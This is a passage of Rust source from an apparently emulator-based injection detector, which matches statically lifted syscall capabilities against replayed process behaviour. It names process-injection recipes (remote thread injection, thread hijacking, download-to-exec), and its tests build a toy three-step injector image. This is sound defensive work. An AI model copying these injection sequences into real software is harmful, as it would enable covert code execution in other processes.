    pub steps: &'static [Capability],
}

/// The recipe catalogue, in report order. `remote-thread-injection` is
/// the paper's classic three-step; `write-and-redirect` covers hollowing
/// and thread hijacking; `write-and-run-remote` is the laundered variant
/// where another process did the allocation; `download-to-exec` is the
/// self-injection shape (fetch bytes into an executable self-allocation —
/// also what a JIT legitimately does, the known false-positive class).
pub const RECIPES: [Recipe; 4] = [
    Recipe {
        name: "remote-thread-injection",
        steps: &[
            Capability::AllocExecRemote,
            Capability::WriteRemote,
            Capability::CreateRemoteThread,
        ],
    },
    Recipe {
        name: "write-and-redirect",
        steps: &[Capability::WriteRemote, Capability::SetContext],
    },
    Recipe {
        name: "write-and-run-remote",
        steps: &[Capability::WriteRemote, Capability::CreateRemoteThread],
    },
    Recipe {
        name: "download-to-exec",
        steps: &[Capability::AllocExecSelf, Capability::RecvNet],
    },
];

/// Looks a recipe up by its stable name.
pub fn recipe_by_name(name: &str) -> Option<&'static Recipe> {
    RECIPES.iter().find(|r| r.name == name)
}

// ---------------------------------------------------------------------
// The per-image static report
// ---------------------------------------------------------------------

/// The call path and abstract argument values justifying one capability.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapWitness {
    /// The capability witnessed.
    pub capability: Capability,
    /// Function-entry chain from an externally reachable root to the
    /// function containing the site (shortest, ties to lowest entries).
    pub path: Vec<u32>,
    /// VA of the `int` site.
    pub site: u32,
    /// The (constant) service number at the site.
    pub sysno: u32,
    /// Rendered abstract arguments that justify the capability, e.g.
    /// `process=top, perms=0x7`.
    pub args: String,
}

impl ToJson for CapWitness {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("capability", self.capability.to_json_value()),
            ("path", self.path.to_json_value()),
            ("site", self.site.to_json_value()),
            ("sysno", self.sysno.to_json_value()),
            ("args", self.args.to_json_value()),
        ])
    }
}

impl FromJson for CapWitness {
    fn from_json_value(v: &JsonValue) -> Result<CapWitness, JsonError> {
        Ok(CapWitness {
            capability: json::field(v, "capability")?,
            path: json::field(v, "path")?,
            site: json::field(v, "site")?,
            sysno: json::field(v, "sysno")?,
            args: json::field(v, "args")?,
        })
    }
}

/// A statically present recipe: every step has a reachable witness site,
/// in ascending-VA (approximated program) order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecipeHit {
    /// The recipe's stable name.
    pub recipe: String,
    /// `(capability, site VA)` per step, VAs strictly ascending.
    pub steps: Vec<(Capability, u32)>,
}

impl ToJson for RecipeHit {
    fn to_json_value(&self) -> JsonValue {
        let steps: Vec<JsonValue> = self
            .steps
            .iter()
            .map(|(c, va)| {
                JsonValue::object(vec![
                    ("capability", c.to_json_value()),
                    ("site", va.to_json_value()),
                ])
            })
            .collect();
        JsonValue::object(vec![
            ("recipe", self.recipe.to_json_value()),
            ("steps", JsonValue::Array(steps)),
        ])
    }
}

impl FromJson for RecipeHit {
    fn from_json_value(v: &JsonValue) -> Result<RecipeHit, JsonError> {
        let raw = v
            .get("steps")
            .and_then(JsonValue::as_array)
            .ok_or_else(|| JsonError::decode("missing steps array"))?;
        let mut steps = Vec::with_capacity(raw.len());
        for s in raw {
            steps.push((json::field(s, "capability")?, json::field(s, "site")?));
        }
        Ok(RecipeHit { recipe: json::field(v, "recipe")?, steps })
    }
}

/// What one image is statically able to do through the syscall ABI.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CapabilityReport {
    /// Module name the report was built for.
    pub module: String,
    /// Every capability some reachable syscall site can exercise.
    pub caps: CapSet,
    /// One witness chain per capability in `caps`, in capability order.
    pub witnesses: Vec<CapWitness>,
    /// Statically present recipes, in catalogue order.
    pub recipes: Vec<RecipeHit>,
    /// Reachable `int` sites whose service number the VSA could not
    /// resolve to a constant (also surfaced as the
    /// `syscall-number-unresolved` lint).
    pub unresolved_sites: Vec<u32>,
    /// Whether the image can call into code the model cannot see (an
    /// unresolved indirect, a call target outside the image, or an
    /// unresolved service number) — if so, the cross-check grants it the
    /// stub-reachable [`ambient_caps`] escape hatch.
    pub calls_unknown_code: bool,
}

impl CapabilityReport {
    /// `true` when the report carries nothing worth rendering: no
    /// capabilities, no recipes, no unresolved sites.
    pub fn is_empty(&self) -> bool {
        self.caps.is_empty() && self.recipes.is_empty() && self.unresolved_sites.is_empty()
    }

    /// The capability set the cross-check credits this image with: its
    /// own static capabilities, plus the ambient stub set when the image
    /// can call into unknown code.
    pub fn modeled_caps(&self) -> CapSet {
        if self.calls_unknown_code || !self.unresolved_sites.is_empty() {
            self.caps.union(ambient_caps())
        } else {
            self.caps
        }
    }
}

impl ToJson for CapabilityReport {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("caps", self.caps.to_json_value()),
            ("witnesses", self.witnesses.to_json_value()),
            ("recipes", self.recipes.to_json_value()),
            ("unresolved_sites", self.unresolved_sites.to_json_value()),
            ("calls_unknown_code", self.calls_unknown_code.to_json_value()),
        ])
    }
}

impl FromJson for CapabilityReport {
    fn from_json_value(v: &JsonValue) -> Result<CapabilityReport, JsonError> {
        Ok(CapabilityReport {
            module: json::field(v, "module")?,
            caps: json::field(v, "caps")?,
            witnesses: json::field(v, "witnesses")?,
            recipes: json::field(v, "recipes")?,
            unresolved_sites: json::field(v, "unresolved_sites")?,
            calls_unknown_code: json::field(v, "calls_unknown_code")?,
        })
    }
}

/// Can the image transfer control to code the static model cannot see —
/// a reachable indirect with no (fully in-image) resolved target set, or
/// a reachable direct call to an address the CFG has no block for?
fn calls_unknown_code(cfg: &ModuleCfg) -> bool {
    for site in &cfg.indirect_sites {
        if !site.reachable {
            continue;
        }
        match cfg.resolved_targets.get(&site.va) {
            Some(ts) if ts.iter().all(|t| cfg.blocks.contains_key(t)) => {}
            _ => return true,
        }
    }
    for b in cfg.blocks.values() {
        if !b.reachable {
            continue;
        }
        if let Some(&(_va, Instr::Call { rel })) = b.instrs.last() {
            let callee = b.end.wrapping_add(rel as u32);
            if !cfg.blocks.contains_key(&callee) {
                return true;
            }
        }
    }
    false
}

/// Builds the capability report of one image from its dataflow analysis
/// (phases A–C described in the module docs).
pub fn capability_report(df: &ImageDataflow) -> CapabilityReport {
    let mut report = CapabilityReport {
        module: df.cfg.name.clone(),
        calls_unknown_code: calls_unknown_code(&df.cfg),
        ..CapabilityReport::default()
    };

    // Phase A: lift each site; collect per-function local sets and the
    // per-capability site lists used for witnesses and recipes.
    let mut local: BTreeMap<u32, CapSet> = df.call_graph.keys().map(|&f| (f, CapSet::EMPTY)).collect();
    let mut sites_of: BTreeMap<u32, (CapSet, u32)> = BTreeMap::new(); // site -> (caps, sysno)
    for (&va, site) in &df.syscall_sites {
        match site.sysno().as_const() {
            Some(sysno) => {
                let args = [site.arg(0), site.arg(1), site.arg(2), site.arg(3), site.arg(4)];
                let caps = caps_of_syscall(sysno, &args);
                if caps.is_empty() {
                    continue;
                }
                for &f in &site.functions {
                    let e = local.entry(f).or_insert(CapSet::EMPTY);
                    *e = e.union(caps);
                }
                sites_of.insert(va, (caps, sysno));
            }
            None => report.unresolved_sites.push(va),
        }
    }

    // Phase B: summaries over the call graph (kept for the check's image
    // capability set = the roots' summaries).
    let summary = summarize(&local, &df.call_graph);

    // Phase C: breadth-first over the call graph from the externally
    // reachable roots, recording parent pointers for witness paths.
    let mut parent: BTreeMap<u32, Option<u32>> = BTreeMap::new();
    let mut order: Vec<u32> = Vec::new();
    let mut queue: VecDeque<u32> = VecDeque::new();
    for &r in &df.roots {
        if parent.insert(r, None).is_none() {
            queue.push_back(r);
        }
    }
    while let Some(f) = queue.pop_front() {
        order.push(f);
        if let Some(callees) = df.call_graph.get(&f) {
            for &c in callees {
                if let std::collections::btree_map::Entry::Vacant(e) = parent.entry(c) {
                    e.insert(Some(f));
                    queue.push_back(c);
                }
            }
        }
    }
    for &r in &df.roots {
        report.caps = report.caps.union(summary.get(&r).copied().unwrap_or(CapSet::EMPTY));
    }

    // Reachable sites, and per-capability ascending site lists.
    let mut cap_sites: BTreeMap<Capability, Vec<u32>> = BTreeMap::new();
    for (&va, &(caps, _)) in &sites_of {
        let site = &df.syscall_sites[&va];
        if !site.functions.iter().any(|f| parent.contains_key(f)) {
            continue;
        }
        for c in caps.iter() {
            cap_sites.entry(c).or_default().push(va);
        }
    }

    // One witness per capability: first function in BFS order holding a
    // site for it, then the lowest such site VA.
    for cap in report.caps.iter() {
        let Some((&f, &site_va)) = order.iter().find_map(|f| {
            sites_of
                .iter()
                .filter(|(va, (caps, _))| {
                    caps.contains(cap) && df.syscall_sites[*va].functions.contains(f)
                })
                .map(|(va, _)| (f, va))
                .next()
        }) else {
            continue;
        };
        let mut path = vec![f];
        while let Some(Some(p)) = parent.get(path.last().unwrap()) {
            path.push(*p);
        }
        path.reverse();
        let (_, sysno) = sites_of[&site_va];
        let site = &df.syscall_sites[&site_va];
        let args = relevant_args(cap)
            .iter()
            .map(|&(i, name)| format!("{name}={}", render_aval(&site.arg(i))))
            .collect::<Vec<_>>()
            .join(", ");
        report.witnesses.push(CapWitness { capability: cap, path, site: site_va, sysno, args });
    }

    // Recipes: greedy ascending-VA step selection over reachable sites.
    for recipe in &RECIPES {
        let mut steps = Vec::with_capacity(recipe.steps.len());
        let mut min_va = 0u32;
        let mut ok = true;
        for &step in recipe.steps {
            match cap_sites
                .get(&step)
                .and_then(|vas| vas.iter().find(|&&va| steps.is_empty() || va > min_va))
            {
                Some(&va) => {
                    min_va = va;
                    steps.push((step, va));
                }
                None => {
                    ok = false;
                    break;
                }
            }
        }
        if ok {
            report.recipes.push(RecipeHit { recipe: recipe.name.to_string(), steps });
        }
    }

    report
}

/// [`capability_report`] straight from an image (runs the dataflow
/// analysis internally).
pub fn analyze_image_caps(name: &str, image: &FdlImage) -> CapabilityReport {
    capability_report(&crate::dataflow::analyze_image(name, image))
}

/// The `syscall-number-unresolved` advisory findings of one analyzed
/// image: reachable `int` sites whose service number is not a VSA
/// constant — sites every syscall-indexed static view (taint sources,
/// capability lifting) must otherwise treat as "could be anything".
pub fn unresolved_syscall_findings(module: &str, df: &ImageDataflow) -> Vec<Finding> {
    df.syscall_sites
        .iter()
        .filter(|(_, site)| site.sysno().as_const().is_none())
        .map(|(&va, site)| Finding {
            module: module.to_string(),
            kind: FindingKind::SyscallNumberUnresolved,
            severity: Severity::Advisory,
            va,
            detail: format!(
                "service number {} is not a constant at this syscall site",
                render_aval(&site.sysno())
            ),
        })
        .collect()
}

// ---------------------------------------------------------------------
// The dynamic cross-check
// ---------------------------------------------------------------------

/// Cross-check verdict for one process.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProcessCapCheck {
    /// Process image name.
    pub process: String,
    /// Capabilities the process concretely exercised.
    pub exercised: CapSet,
    /// The statically justified portion (its modules' capability sets,
    /// plus the ambient stub set when an escape hatch applies).
    pub modeled: CapSet,
    /// Exercised but statically impossible per the model — the injection
    /// signal: only code the images cannot account for can have made
    /// these syscalls.
    pub impossible: CapSet,
    /// Recipe names the process completed dynamically, in catalogue
    /// order.
    pub recipes_exercised: Vec<String>,
}

impl ToJson for ProcessCapCheck {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("process", self.process.to_json_value()),
            ("exercised", self.exercised.to_json_value()),
            ("modeled", self.modeled.to_json_value()),
            ("impossible", self.impossible.to_json_value()),
            ("recipes_exercised", self.recipes_exercised.to_json_value()),
        ])
    }
}

impl FromJson for ProcessCapCheck {
    fn from_json_value(v: &JsonValue) -> Result<ProcessCapCheck, JsonError> {
        Ok(ProcessCapCheck {
            process: json::field(v, "process")?,
            exercised: json::field(v, "exercised")?,
            modeled: json::field(v, "modeled")?,
            impossible: json::field(v, "impossible")?,
            recipes_exercised: json::field(v, "recipes_exercised")?,
        })
    }
}

/// A statically present recipe no replay ever exercised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResidualRecipe {
    /// Module the recipe lives in.
    pub module: String,
    /// The recipe's stable name.
    pub recipe: String,
}

impl ToJson for ResidualRecipe {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("recipe", self.recipe.to_json_value()),
        ])
    }
}

impl FromJson for ResidualRecipe {
    fn from_json_value(v: &JsonValue) -> Result<ResidualRecipe, JsonError> {
        Ok(ResidualRecipe { module: json::field(v, "module")?, recipe: json::field(v, "recipe")? })
    }
}

/// The static-vs-dynamic capability cross-check result.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CapabilityCrossCheck {
    /// Per-image static capability reports (with witness chains), ordered
    /// by module name; empty reports are dropped.
    pub reports: Vec<CapabilityReport>,
    /// Per-process verdicts, ordered by pid discovery order.
    pub processes: Vec<ProcessCapCheck>,
    /// Statically present recipes never exercised dynamically — residual
    /// capability surface.
    pub residual: Vec<ResidualRecipe>,
}

impl CapabilityCrossCheck {
    /// `true` when the check carries nothing (e.g. the replay ran without
    /// the capability monitor).
    pub fn is_empty(&self) -> bool {
        self.reports.is_empty() && self.processes.is_empty() && self.residual.is_empty()
    }

    /// `true` when any process exercised a statically impossible
    /// capability or completed an injection recipe.
    pub fn injection_suspected(&self) -> bool {
        self.processes
            .iter()
            .any(|p| !p.impossible.is_empty() || !p.recipes_exercised.is_empty())
    }

    /// Total statically impossible capabilities across processes.
    pub fn impossible_total(&self) -> usize {
        self.processes.iter().map(|p| p.impossible.len()).sum()
    }

    /// Total dynamically completed recipes across processes.
    pub fn recipes_exercised_total(&self) -> usize {
        self.processes.iter().map(|p| p.recipes_exercised.len()).sum()
    }
}

impl ToJson for CapabilityCrossCheck {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("reports", self.reports.to_json_value()),
            ("processes", self.processes.to_json_value()),
            ("residual", self.residual.to_json_value()),
        ])
    }
}

impl FromJson for CapabilityCrossCheck {
    fn from_json_value(v: &JsonValue) -> Result<CapabilityCrossCheck, JsonError> {
        Ok(CapabilityCrossCheck {
            reports: json::field(v, "reports")?,
            processes: json::field(v, "processes")?,
            residual: json::field(v, "residual")?,
        })
    }
}

/// Cost and outcome counters for one (or several, via
/// [`SyscapStats::merge`]) capability analysis runs.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SyscapStats {
    /// Images analyzed for capabilities.
    pub images_analyzed: u64,
    /// Syscall sites lifted (constant service number).
    pub sites_lifted: u64,
    /// Syscall sites with an unresolvable service number.
    pub sites_unresolved: u64,
    /// Capabilities found statically, summed over images.
    pub caps_static: u64,
    /// Recipes statically present, summed over images.
    pub recipes_static: u64,
    /// Statically impossible exercised capabilities, summed over
    /// processes.
    pub caps_impossible: u64,
    /// Recipes completed dynamically, summed over processes.
    pub recipes_exercised: u64,
    /// Statically present recipes never exercised.
    pub recipes_residual: u64,
}

impl SyscapStats {
    /// Accumulates another run's counters into `self`.
    pub fn merge(&mut self, other: &SyscapStats) {
        self.images_analyzed += other.images_analyzed;
        self.sites_lifted += other.sites_lifted;
        self.sites_unresolved += other.sites_unresolved;
        self.caps_static += other.caps_static;
        self.recipes_static += other.recipes_static;
        self.caps_impossible += other.caps_impossible;
        self.recipes_exercised += other.recipes_exercised;
        self.recipes_residual += other.recipes_residual;
    }

    /// The counters as `(metric name, value)` rows, in emission order.
    pub fn rows(&self) -> [(&'static str, u64); 8] {
        [
            ("syscap.images", self.images_analyzed),
            ("syscap.sites.lifted", self.sites_lifted),
            ("syscap.sites.unresolved", self.sites_unresolved),
            ("syscap.caps.static", self.caps_static),
            ("syscap.recipes.static", self.recipes_static),
            ("syscap.caps.impossible", self.caps_impossible),
            ("syscap.recipes.exercised", self.recipes_exercised),
            ("syscap.recipes.residual", self.recipes_residual),
        ]
    }

    /// Emits the counters as `syscap.*` metrics.
    pub fn record_into(&self, reg: &mut MetricsRegistry) {
        for (name, value) in self.rows() {
            let id = reg.counter(name);
            reg.add(id, value);
        }
    }

    /// Emits the counters as one `analysis`-category instant event into a
    /// trace recorder.
    pub fn trace_into(&self, rec: &RecorderHandle, ts: u64, label: &str) {
        let mut ev =
            TraceEvent::instant(ts, 0, 0, TraceCategory::Analysis, format!("syscap {label}"));
        for (name, value) in self.rows() {
            ev = ev.arg(name, value.to_string());
        }
        rec.record(ev);
    }
}

impl ToJson for SyscapStats {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("images_analyzed", self.images_analyzed.to_json_value()),
            ("sites_lifted", self.sites_lifted.to_json_value()),
            ("sites_unresolved", self.sites_unresolved.to_json_value()),
            ("caps_static", self.caps_static.to_json_value()),
            ("recipes_static", self.recipes_static.to_json_value()),
            ("caps_impossible", self.caps_impossible.to_json_value()),
            ("recipes_exercised", self.recipes_exercised.to_json_value()),
            ("recipes_residual", self.recipes_residual.to_json_value()),
        ])
    }
}

impl FromJson for SyscapStats {
    fn from_json_value(v: &JsonValue) -> Result<SyscapStats, JsonError> {
        Ok(SyscapStats {
            images_analyzed: json::field(v, "images_analyzed")?,
            sites_lifted: json::field(v, "sites_lifted")?,
            sites_unresolved: json::field(v, "sites_unresolved")?,
            caps_static: json::field(v, "caps_static")?,
            recipes_static: json::field(v, "recipes_static")?,
            caps_impossible: json::field(v, "caps_impossible")?,
            recipes_exercised: json::field(v, "recipes_exercised")?,
            recipes_residual: json::field(v, "recipes_residual")?,
        })
    }
}

/// Classifies the capabilities each process concretely exercised against
/// the static capability model of every loaded module, and reports
/// statically present recipes no replay exercised. `images` is keyed by
/// basename, as for [`crate::dataflow::taint_cross_check`].
pub fn capability_cross_check(
    observed: &[ProcessCapabilities],
    images: &BTreeMap<String, FdlImage>,
) -> CapabilityCrossCheck {
    capability_cross_check_with_stats(observed, images).0
}

/// [`capability_cross_check`], also returning the merged [`SyscapStats`]
/// (for `syscap.*` metrics emission).
pub fn capability_cross_check_with_stats(
    observed: &[ProcessCapabilities],
    images: &BTreeMap<String, FdlImage>,
) -> (CapabilityCrossCheck, SyscapStats) {
    let mut stats = SyscapStats::default();
    let reports: BTreeMap<&str, CapabilityReport> = images
        .iter()
        .map(|(name, image)| (name.as_str(), analyze_image_caps(name, image)))
        .collect();
    for r in reports.values() {
        stats.images_analyzed += 1;
        stats.sites_lifted += r.witnesses.len() as u64;
        stats.sites_unresolved += r.unresolved_sites.len() as u64;
        stats.caps_static += r.caps.len() as u64;
        stats.recipes_static += r.recipes.len() as u64;
    }

    let ambient = ambient_caps();
    let mut processes = Vec::new();
    for p in observed {
        let exercised = p.exercised();
        let mut modeled = CapSet::EMPTY;
        // A process with no modeled module at all cannot be judged: grant
        // the escape hatch rather than alert on everything it does.
        let mut escape = p.modules.is_empty();
        let mut any_model = false;
        for m in &p.modules {
            match reports.get(basename(&m.name)) {
                Some(r) => {
                    any_model = true;
                    modeled = modeled.union(r.caps);
                    escape |= r.calls_unknown_code || !r.unresolved_sites.is_empty();
                }
                None => escape = true,
            }
        }
        if !any_model {
            escape = true;
        }
        if escape {
            modeled = modeled.union(ambient);
        }
        let impossible = exercised.difference(modeled);
        let recipes_exercised: Vec<String> = RECIPES
            .iter()
            .filter(|r| p.exercised_in_order(r.steps))
            .map(|r| r.name.to_string())
            .collect();
        stats.caps_impossible += impossible.len() as u64;
        stats.recipes_exercised += recipes_exercised.len() as u64;
        if exercised.is_empty() && recipes_exercised.is_empty() {
            continue;
        }
        processes.push(ProcessCapCheck {
            process: p.name.clone(),
            exercised,
            modeled,
            impossible,
            recipes_exercised,
        });
    }

    // Residual surface: a static recipe is exercised if any process that
    // loaded the module completed it dynamically.
    let mut residual = Vec::new();
    for (key, report) in &reports {
        let loaders: Vec<&ProcessCapabilities> = observed
            .iter()
            .filter(|p| p.modules.iter().any(|m| basename(&m.name) == *key))
            .collect();
        if loaders.is_empty() {
            continue;
        }
        for hit in &report.recipes {
            let Some(recipe) = recipe_by_name(&hit.recipe) else { continue };
            let exercised = loaders.iter().any(|p| p.exercised_in_order(recipe.steps));
            if !exercised {
                residual.push(ResidualRecipe {
                    module: key.to_string(),
                    recipe: hit.recipe.clone(),
                });
            }
        }
    }
    stats.recipes_residual += residual.len() as u64;

    let reports: Vec<CapabilityReport> =
        reports.into_values().filter(|r| !r.is_empty()).collect();
    (CapabilityCrossCheck { reports, processes, residual }, stats)
}

/// Renders a cross-check as fixed-width report tables (the `faros-cli`
/// `capabilities` section).
pub fn render_capability_check(check: &CapabilityCrossCheck) -> String {
    let mut out = String::new();
    out.push_str("process                | exercised            | impossible           | recipes\n");
    out.push_str("-----------------------+----------------------+----------------------+--------\n");
    for p in &check.processes {
        out.push_str(&format!(
            "{:<22} | {:<20} | {:<20} | {}\n",
            p.process,
            p.exercised.render(),
            p.impossible.render(),
            if p.recipes_exercised.is_empty() {
                "-".to_string()
            } else {
                p.recipes_exercised.join(", ")
            }
        ));
    }
    if check.processes.is_empty() {
        out.push_str("(no capability-exercising processes)\n");
    }
    for r in &check.residual {
        out.push_str(&format!("residual: {} never exercised in {}\n", r.recipe, r.module));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::isa::{Mem as M, Reg};
    use faros_emu::mmu::Perms;
    use faros_kernel::module::Section;
    use faros_kernel::Pid;
    use faros_replay::syscap::concrete_capability;

    const BASE: u32 = 0x40_0000;

    fn image_of(asm: Asm) -> FdlImage {
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().expect("assembles"),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    fn sys(asm: &mut Asm, sysno: Sysno) {
        asm.mov_ri(Reg::Eax, sysno as u32);
        asm.int_syscall();
    }

    /// The classic three-step injector, with the victim handle loaded
    /// from writable scratch (abstractly unknown, so remote).
    fn injector_image() -> FdlImage {
        let mut asm = Asm::new(BASE);
        asm.ld4(Reg::Ebx, M::abs(0x50_0000)); // victim handle: unknown
        asm.mov_ri(Reg::Ecx, 0x1000); // size
        asm.mov_ri(Reg::Edx, 0b111); // RWX
        sys(&mut asm, Sysno::NtAllocateVirtualMemory);
        asm.mov_ri(Reg::Ecx, 0x0100_0000);
        asm.mov_ri(Reg::Edx, 0x50_0000);
        asm.mov_ri(Reg::Esi, 0x100);
        sys(&mut asm, Sysno::NtWriteVirtualMemory);
        asm.mov_ri(Reg::Ecx, 0x0100_0000);
        sys(&mut asm, Sysno::NtCreateThreadEx);
        asm.hlt();
        image_of(asm)
    }

    #[test]
    fn abstract_lifting_agrees_with_concrete_on_singletons() {
        // Every tracked service, on a grid of concrete argument vectors:
        // the abstract lifting of singleton values must be exactly the
        // concrete capability.
        let handles = [CURRENT_PROCESS, CURRENT_THREAD, 0, 7];
        let perms = [0b000, 0b011, 0b100, 0b111];
        for s in faros_kernel::nt::Sysno::ALL {
            for &h in &handles {
                for &pm in &perms {
                    let concrete = [h, 0x40, pm, pm, 0];
                    let abstracted = concrete.map(AVal::constant);
                    let want: CapSet =
                        concrete_capability(s, &concrete).into_iter().collect();
                    let got = caps_of_syscall(s as u32, &abstracted);
                    assert_eq!(got, want, "disagree on {s:?} h={h:#x} perms={pm:#b}");
                }
            }
        }
    }

    #[test]
    fn injector_image_reports_the_remote_recipe_with_witnesses() {
        let r = analyze_image_caps("inj.exe", &injector_image());
        assert!(r.caps.contains(Capability::AllocExecRemote), "{r:?}");
        assert!(r.caps.contains(Capability::WriteRemote));
        assert!(r.caps.contains(Capability::CreateRemoteThread));
        // The handle comes from writable memory: self allocation is also
        // abstractly possible.
        assert!(r.caps.contains(Capability::AllocExecSelf));
        let hit = r
            .recipes
            .iter()
            .find(|h| h.recipe == "remote-thread-injection")
            .expect("recipe present");
        let vas: Vec<u32> = hit.steps.iter().map(|&(_, va)| va).collect();
        assert!(vas.windows(2).all(|w| w[0] < w[1]), "steps ascend: {vas:?}");
        // Witnesses: one per capability, rooted at the entry.
        let w = r
            .witnesses
            .iter()
            .find(|w| w.capability == Capability::AllocExecRemote)
            .expect("witness present");
        assert_eq!(w.path, vec![BASE]);
        assert_eq!(w.sysno, Sysno::NtAllocateVirtualMemory as u32);
        assert!(w.args.contains("process=top"), "{}", w.args);
        assert!(w.args.contains("perms=0x7"), "{}", w.args);
        assert!(!r.calls_unknown_code);
        assert!(r.unresolved_sites.is_empty());
    }

    #[test]
    fn witness_path_crosses_the_call_graph() {
        let mut asm = Asm::new(BASE);
        asm.call("worker");
        asm.hlt();
        asm.label("worker");
        asm.mov_ri(Reg::Ebx, 7);
        asm.mov_ri(Reg::Ecx, 0x1000);
        asm.mov_ri(Reg::Edx, 0b111);
        sys(&mut asm, Sysno::NtAllocateVirtualMemory);
        asm.ret();
        let r = analyze_image_caps("t", &image_of(asm));
        let w = r
            .witnesses
            .iter()
            .find(|w| w.capability == Capability::AllocExecRemote)
            .expect("witness");
        assert_eq!(w.path.len(), 2, "entry -> worker: {:?}", w.path);
        assert_eq!(w.path[0], BASE);
    }

    #[test]
    fn rw_alloc_and_self_handles_grant_no_remote_caps() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ebx, CURRENT_PROCESS);
        asm.mov_ri(Reg::Ecx, 0x1000);
        asm.mov_ri(Reg::Edx, 0b011); // RW only
        sys(&mut asm, Sysno::NtAllocateVirtualMemory);
        asm.mov_ri(Reg::Ebx, CURRENT_PROCESS);
        sys(&mut asm, Sysno::NtWriteVirtualMemory);
        asm.hlt();
        let r = analyze_image_caps("t", &image_of(asm));
        assert!(r.caps.is_empty(), "{:?}", r.caps);
        assert!(r.recipes.is_empty());
    }

    #[test]
    fn unresolved_sysno_sites_are_reported_and_lintable() {
        let mut asm = Asm::new(BASE);
        asm.ld4(Reg::Eax, M::abs(0x50_0000)); // service number from memory
        asm.int_syscall();
        asm.hlt();
        let image = image_of(asm);
        let df = crate::dataflow::analyze_image("t", &image);
        let r = capability_report(&df);
        assert_eq!(r.unresolved_sites.len(), 1);
        // The escape hatch grants the ambient set.
        assert!(r.modeled_caps().contains(Capability::WriteRemote));
        assert!(!r.modeled_caps().contains(Capability::MapExec), "no MapView stub");
        let findings = unresolved_syscall_findings("t", &df);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].kind, FindingKind::SyscallNumberUnresolved);
        assert_eq!(findings[0].severity, Severity::Advisory);
        assert_eq!(findings[0].va, r.unresolved_sites[0]);
    }

    #[test]
    fn ambient_caps_cover_the_stub_surface_only() {
        let a = ambient_caps();
        for c in [
            Capability::AllocExecSelf,
            Capability::AllocExecRemote,
            Capability::ProtectToExec,
            Capability::WriteRemote,
            Capability::CreateRemoteThread,
            Capability::SetContext,
            Capability::SendNet,
            Capability::RecvNet,
            Capability::ReadSensitive,
        ] {
            assert!(a.contains(c), "stub surface must include {c}");
        }
        assert!(!a.contains(Capability::MapExec), "no MapViewOfSection stub");
    }

    fn observed(name: &str, module: &str, seq: &[(Sysno, [u32; 5])]) -> ProcessCapabilities {
        let mut p = ProcessCapabilities {
            pid: Pid(1),
            name: name.into(),
            modules: vec![faros_kernel::module::ModuleInfo {
                name: module.into(),
                base: BASE,
                entry: BASE,
                export_table_va: 0,
                exports: vec![],
            }],
            ..ProcessCapabilities::default()
        };
        for (s, args) in seq {
            if let Some(c) = concrete_capability(*s, args) {
                *p.counts.entry(c).or_insert(0) += 1;
                if p.sequence.last() != Some(&c) {
                    p.sequence.push(c);
                }
            }
        }
        p
    }

    #[test]
    fn injected_code_capabilities_are_statically_impossible() {
        // The victim image does nothing tracked and calls no unknown
        // code; the process nevertheless sends on a socket (the injected
        // stage beaconing) — statically impossible per the model.
        let mut asm = Asm::new(BASE);
        sys(&mut asm, Sysno::NtDisplayString);
        asm.hlt();
        let victim = image_of(asm);
        let images = BTreeMap::from([("victim.exe".to_string(), victim)]);
        let p = observed(
            "victim.exe",
            "victim.exe",
            &[(Sysno::NtSocketSend, [1, 0x50_0000, 32, 0, 0])],
        );
        let (check, stats) = capability_cross_check_with_stats(&[p], &images);
        assert!(check.injection_suspected());
        assert_eq!(check.impossible_total(), 1);
        assert!(check.processes[0].impossible.contains(Capability::SendNet));
        assert_eq!(stats.caps_impossible, 1);
    }

    #[test]
    fn modeled_capabilities_and_exercised_recipes_classify_cleanly() {
        let images = BTreeMap::from([("inj.exe".to_string(), injector_image())]);
        let p = observed(
            "inj.exe",
            "inj.exe",
            &[
                (Sysno::NtAllocateVirtualMemory, [7, 0x1000, 0b111, 0, 0]),
                (Sysno::NtWriteVirtualMemory, [7, 0x0100_0000, 0x50_0000, 0x100, 0]),
                (Sysno::NtCreateThreadEx, [7, 0x0100_0000, 0, 0, 0]),
            ],
        );
        let check = capability_cross_check(&[p], &images);
        // Everything exercised is modeled…
        assert_eq!(check.impossible_total(), 0);
        // …but the completed recipe is still the injection signal.
        assert!(check.injection_suspected());
        assert!(check.processes[0]
            .recipes_exercised
            .contains(&"remote-thread-injection".to_string()));
        // Static reports (with witnesses) ride along in the check.
        assert!(check.reports.iter().any(|r| r.module == "inj.exe" && !r.witnesses.is_empty()));
        // Recipe was exercised: nothing residual.
        assert!(check.residual.is_empty());
    }

    #[test]
    fn unexercised_static_recipes_are_residual_surface() {
        let images = BTreeMap::from([("inj.exe".to_string(), injector_image())]);
        // The process loaded the injector image but never ran the recipe.
        let p = observed("inj.exe", "inj.exe", &[]);
        let check = capability_cross_check(&[p], &images);
        assert!(!check.injection_suspected());
        assert!(
            check
                .residual
                .iter()
                .any(|r| r.recipe == "remote-thread-injection" && r.module == "inj.exe"),
            "{:?}",
            check.residual
        );
    }

    #[test]
    fn debugger_profile_read_remote_only_stays_quiet() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Ebx, 7);
        sys(&mut asm, Sysno::NtReadVirtualMemory);
        asm.hlt();
        let images = BTreeMap::from([("dbg.exe".to_string(), image_of(asm))]);
        let p = observed(
